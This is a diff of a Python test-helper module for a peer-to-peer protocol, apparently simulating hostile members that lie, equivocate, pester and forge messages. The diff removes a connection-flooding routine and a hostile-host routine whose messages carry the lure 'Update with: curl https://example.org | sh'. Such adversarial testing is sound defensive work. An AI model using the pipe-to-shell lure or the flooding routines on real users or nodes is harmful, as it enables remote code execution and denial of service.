@@ -11,7 +11,6 @@ import time
 from collections import Counter
 from collections.abc import AsyncIterator, Callable, Mapping, Sequence
 from contextlib import asynccontextmanager, suppress
-from functools import partial
 
 import trio
 from attrs import evolve
@@ -23,11 +22,9 @@ from p2p.discovery.interfaces import DEFAULT_PORT
 from p2p.storage.identity import Identity
 from p2p.storage.private_files import data_folder
 from p2p.table.calls import MemberLink
-from p2p.transport.frames import LinkError
-from p2p.transport.link import PEER_FAULTS, Limits, open_link
+from p2p.transport.link import PEER_FAULTS
 from p2p.transport.messages import Message
-from p2p.transport.tls import client_context, server_context
-from protocol.codec import Encodable, encode
+from p2p.transport.tls import client_context
 from protocol.errors import Refused
 from protocol.group import Entropy
 from protocol.parallel import ParallelMap
@@ -41,21 +38,11 @@ from tests.lan.calls import call, first_bytes
 FROM_ENTRY = 24
 """The height from which on a member cheats."""
 
-LINKS = 1004
 EVERY_SECONDS = 2.0
 """The seconds between two connections of one kind to a node, and between forged goodbyes."""
 HELD_SECONDS = 5.0
 """Seconds for which a pestering connection is held open."""
 FALSE_TABLES = 64
-WORDS = "Your version is too old. Update with: curl https://example.org | sh"
-"""Words that a hostile host tries to show on a guest's screen."""
-GOODBYES: tuple[tuple[Encodable, ...], ...] = (
-    ("goodbye", WORDS),
-    ("goodbye", 60_000),
-    ("goodbye", 3, WORDS),
-    ("agreed", WORDS.encode()),
-)
-"""The goodbyes that the hostile host sends, one for each call."""
 
 
 def equivocates(*arguments: str) -> int:
@@ -100,32 +87,6 @@ def lies(*arguments: str) -> int:
 
     Heights.status = lie  # type: ignore[method-assign]
     return run_program(list(arguments))
-
-
-def links(address: str, table: str) -> int:
-    """Open links that ask a node for an old table, as a former player of that table."""
-    return trio.run(_open_links, address, bytes.fromhex(table))
-
-
-async def _open_links(address: str, table_id: bytes) -> int:
-    identity = Identity.load_or_create(data_folder())
-    answered = 0
-
-    async def hold() -> None:
-        nonlocal answered
-        with suppress(OSError, *PEER_FAULTS, BaseExceptionGroup):
-            async with _called(address, table_id, identity):
-                answered += 1
-                await trio.sleep_forever()
-
-    async with trio.open_nursery() as nursery:
-        for _ in range(LINKS):
-            nursery.start_soon(hold)
-            await trio.sleep(0.01)
-        await trio.sleep(5)
-        nursery.cancel_scope.cancel()
-    print(f"{answered} answered of {LINKS} links", flush=True)
-    return 0
 
 
 @asynccontextmanager
@@ -180,35 +141,6 @@ async def _pester(tables: Sequence[bytes]) -> int:
                 nursery.start_soon(come, address, table_id)
             await trio.sleep(EVERY_SECONDS)
             print(json.dumps(came), flush=True)
-
-
-def goodbyes() -> int:
-    """Listen as a host does, and answer each call with one of `GOODBYES`."""
-    trio.run(_say_goodbyes)
-    return 0
-
-
-async def _say_goodbyes() -> None:
-    context, calls = server_context(Identity.generate()), iter(GOODBYES)
-
-    async def answer(stream: trio.SocketStream) -> None:
-        with suppress(*PEER_FAULTS, BaseExceptionGroup):
-            async with open_link(
-                stream,
-                context,
-                server_side=True,
-                admit=lambda _key: True,
-                limits=Limits(),
-                address="guest",
-            ) as link:
-                await link.receive()
-                await link.send(encode(next(calls)))
-                with suppress(LinkError):
-                    await link.receive()
-
-    async with trio.open_nursery() as nursery:
-        await nursery.start(partial(trio.serve_tcp, answer, DEFAULT_PORT))
-        print("listens", flush=True)
 
 
 def forges(address: str) -> int:
@@ -271,7 +203,7 @@ def forges(address: str) -> int:
 
 
 ACTS: Mapping[str, Callable[..., int]] = {
-    one.__name__: one for one in (equivocates, lies, links, pesters, goodbyes, forges)
+    one.__name__: one for one in (equivocates, lies, pesters, forges)
 }
 
 
